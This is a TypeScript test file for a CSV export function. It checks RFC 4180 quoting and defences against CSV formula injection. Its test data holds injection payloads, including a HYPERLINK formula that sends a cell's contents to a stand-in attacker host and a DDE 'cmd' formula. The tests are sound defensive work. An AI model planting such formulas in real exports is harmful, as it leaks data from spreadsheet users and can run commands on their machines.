import { parse } from 'csv-parse/sync';
import { HyperFormula } from 'hyperformula';
import { toCsv } from './csv';

describe('toCsv (RFC 4180)', () => {
  it('writes plain fields as they are, comma separated, every record ended by CRLF', () => {
    expect(
      toCsv([
        ['Date', 'Number'],
        ['2026-05-01', 'ACTIVE-0001'],
      ]),
    ).toBe('Date,Number\r\n2026-05-01,ACTIVE-0001\r\n');
  });

  it.each([
    ['a comma', 'Plan, yearly', '"Plan, yearly"'],
    ['a double quote, doubled', 'The "Launch" offer', '"The ""Launch"" offer"'],
    ['a line feed', 'line one\nline two', '"line one\nline two"'],
    ['a carriage return', 'one\rtwo', '"one\rtwo"'],
  ])('encloses a field holding %s in double quotes', (_what, field, written) => {
    expect(toCsv([[field, 'x']])).toBe(`${written},x\r\n`);
  });

  it('keeps empty fields and text outside ASCII as they are', () => {
    expect(toCsv([['', 'Café €']])).toBe(',Café €\r\n');
  });

  it('writes nothing for no records', () => {
    expect(toCsv([])).toBe('');
  });
});

describe('toCsv against formulas (OWASP CSV injection)', () => {
  const formulas = [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1,1)',
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open invoice")',
    '\t=1+1',
    '\r=1+1',
    "=cmd|' /C calc'!A0",
  ];

  it.each(formulas)('starts %j with a single quote, in double quotes', (field) => {
    expect(toCsv([[field]])).toBe(`"'${field.replace(/"/g, '""')}"\r\n`);
  });

  it.each(['-12.00', '+3', '360.00', '0'])('keeps the number %s a number', (field) => {
    expect(toCsv([[field]])).toBe(`${field}\r\n`);
  });

  it('keeps a number with a decimal comma a number, quoted for its comma only', () => {
    expect(toCsv([['-12,00']])).toBe('"-12,00"\r\n');
  });

  it('gives a spreadsheet text, not formulas: every cell reads back as written, and the numbers as numbers', () => {
    const written = [['Description', 'Amount'], ...formulas.map((field) => [field, '-12.00'])];
    // As a spreadsheet opens the file: the CSV read into cells, each cell's text entered as a user would type it.
    const cells = parse(toCsv(written), { relaxQuotes: false }) as string[][];
    const sheet = HyperFormula.buildFromArray(cells, { licenseKey: 'gpl-v3' });
    try {
      formulas.forEach((field, index) => {
        const row = index + 1;
        expect(sheet.doesCellHaveFormula({ sheet: 0, row, col: 0 })).toBe(false);
        expect(sheet.getCellValue({ sheet: 0, row, col: 0 })).toBe(field);
        expect(sheet.getCellValue({ sheet: 0, row, col: 1 })).toBe(-12);
      });
    } finally {
      sheet.destroy();
    }
  });

  it('is what a spreadsheet would run without it (the test can fail)', () => {
    const sheet = HyperFormula.buildFromArray([['=1+1']], { licenseKey: 'gpl-v3' });
    expect(sheet.doesCellHaveFormula({ sheet: 0, row: 0, col: 0 })).toBe(true);
    expect(sheet.getCellValue({ sheet: 0, row: 0, col: 0 })).toBe(2);
    sheet.destroy();
  });
});
